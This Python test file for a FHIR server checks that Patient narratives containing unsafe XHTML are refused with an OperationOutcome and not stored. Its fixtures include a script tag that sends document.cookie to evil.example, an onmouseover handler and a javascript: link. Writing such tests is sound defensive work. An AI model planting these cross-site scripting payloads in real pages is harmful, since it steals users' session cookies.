"""Narrative safety on writes: unsafe ``text.div`` is refused with an OperationOutcome and never stored."""

from __future__ import annotations

from typing import Any

import orjson
from fhir_factories import FHIR_JSON, patient, post, put
from flask.testing import FlaskClient
from sqlalchemy import Engine, text

XHTML = 'xmlns="http://www.w3.org/1999/xhtml"'
SCRIPT_DIV = f"<div {XHTML}><p>Ann</p><script>fetch('https://evil.example/?c=' + document.cookie)</script></div>"


def narrated(div: str, **fields: Any) -> dict[str, Any]:
    return patient(text={"status": "generated", "div": div}, **fields)


def stored(engine: Engine) -> int:
    with engine.connect() as connection:
        return int(connection.execute(text("SELECT count(*) FROM resource")).scalar_one())


def test_create_with_script_in_narrative_is_400_naming_the_div(client: FlaskClient, engine: Engine) -> None:
    response = post(client, narrated(SCRIPT_DIV))
    assert response.status_code == 400
    body = response.get_json()
    assert body["resourceType"] == "OperationOutcome"
    assert body["issue"] == [
        {
            "severity": "error",
            "code": "invariant",
            "diagnostics": "Element `<script>` is not allowed in narrative `Patient.text.div` (txt-1).",
            "expression": ["Patient.text.div"],
        }
    ]
    assert stored(engine) == 0


def test_update_with_event_handler_is_refused_and_keeps_the_stored_version(client: FlaskClient, engine: Engine) -> None:
    created = post(client, narrated(f"<div {XHTML}>Ann</div>")).get_json()
    unsafe = narrated(f'<div {XHTML}><a href="#x" onmouseover="steal()">Ann</a></div>', id=created["id"])
    response = put(client, unsafe)
    assert response.status_code == 400
    assert [issue["expression"] for issue in response.get_json()["issue"]] == [["Patient.text.div"]]
    current = client.get(f"/fhir/Patient/{created['id']}").get_json()
    assert current["meta"]["versionId"] == "1"
    assert current["text"]["div"] == f"<div {XHTML}>Ann</div>"
    assert stored(engine) == 1


def test_transaction_with_javascript_link_stores_nothing(client: FlaskClient, engine: Engine) -> None:
    bundle = {
        "resourceType": "Bundle",
        "type": "transaction",
        "entry": [
            {"resource": narrated(f"<div {XHTML}>Ann</div>"), "request": {"method": "POST", "url": "Patient"}},
            {
                "resource": narrated(f'<div {XHTML}><a href="javascript:alert(1)">Bob</a></div>'),
                "request": {"method": "POST", "url": "Patient"},
            },
        ],
    }
    response = client.post("/fhir", data=orjson.dumps(bundle), headers={"Content-Type": FHIR_JSON})
    assert response.status_code == 400
    expressions = [e for issue in response.get_json()["issue"] for e in issue.get("expression", [])]
    assert "Bundle.entry[1].resource.text.div" in expressions, response.get_json()
    assert stored(engine) == 0


def test_safe_generated_narrative_is_stored_and_served_unchanged(client: FlaskClient) -> None:
    div = (
        f'<div {XHTML}><table class="grid"><tr><th>Name</th><td style="padding: 2px">Ann&nbsp;Smith</td></tr></table>'
        '<a href="#obs1">obs</a> <img src="https://example.org/logo.png" alt="logo"/></div>'
    )
    response = post(client, narrated(div))
    assert response.status_code == 201
    assert client.get(f"/fhir/Patient/{response.get_json()['id']}").get_json()["text"]["div"] == div
